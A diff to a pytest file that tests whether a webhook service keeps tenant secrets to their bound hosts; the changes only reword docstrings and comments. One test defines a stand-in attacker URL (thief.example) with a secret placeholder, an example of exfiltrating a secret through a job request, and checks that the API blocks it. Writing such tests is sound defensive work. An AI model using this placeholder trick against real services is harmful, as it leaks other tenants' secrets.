@@ -1,6 +1,6 @@
 """A secret goes to the hosts it is bound to, and its value stays nowhere else: not in a record, a log or an answer.
 
-Each attack has its control: the same on a secret for any host, or past the hiding, gets it.
+Each attack has its control: the same attack on a secret for any host, or past the hiding, gets the value.
 """
 
 import asyncio
@@ -29,7 +29,7 @@ from tests.factories import attempts, make_job, make_tenant, make_trigger, state
 from tests.handlers.conftest import LOOPBACK, Receiver
 from tests.interfaces.api.caller import Caller, faulty_fields, noop_job
 
-#: As webhooks.md advises for URLs: percent-encoded, with what a client decodes and what it does not.
+#: As webhooks.md advises for URLs: percent-encoded, with sequences that a client decodes and others that it does not.
 CANARY = "SEKRET1%41bpCmYnVL%21%2FznsecIpbg"
 LONG = "SEKRET2" + "".join(chr(48 + n % 75) for n in range(0, 3000, 7)) * 8
 
@@ -40,7 +40,7 @@ def a_webhook(url: str, **changes: Any) -> dict[str, Any]:
 
 @pytest.mark.django_db
 class TestASecretSentElsewhere:
-    """Whoever may write jobs read every secret, by a placeholder in a request to a server of its own."""
+    """A caller that may write jobs could read every secret, by a placeholder in a request to a server of its own."""
 
     THIEF = "https://thief.example/?{{secret:token}}"
 
@@ -66,12 +66,12 @@ class TestASecretSentElsewhere:
         ):
             assert faulty_fields(answer) == {field}
             assert "api.example, *.ours.example" in answer.content.decode()
-        # The control: the same goes through with a secret for any host.
+        # The control: the same request goes through with a secret for any host.
         theirs = self.THIEF.replace("token", "anywhere")
         assert caller.post("/jobs", a_webhook(theirs, name="b")).status_code == 201
 
     def test_comes_with_few_others(self, caller: Caller) -> None:
-        """Hiding each costs the worker memory and time, which it shares with other tenants."""
+        """Hiding each secret costs memory and time of the worker, which other tenants share."""
         for number in range(MAX_NAMES):
             put_secret(tenant=caller.tenant, name=f"s{number}", value=CANARY, hosts=["*"])
 
@@ -100,7 +100,7 @@ class TestASecretSentElsewhere:
     )
     def test_is_not_kept_without_saying_where_it_may_go(self, caller: Caller, hosts: Any) -> None:
         body = {"value": CANARY} | ({} if hosts is None else {"hosts": hosts})
-        # What is not even a text is named by its place.
+        # A host that is not even a text is named by its place.
         field = "hosts[0]" if hosts == [1] else "hosts"
         assert faulty_fields(caller.put("/secrets/new", body)) == {field}
         assert caller.get("/secrets/new").status_code == 404
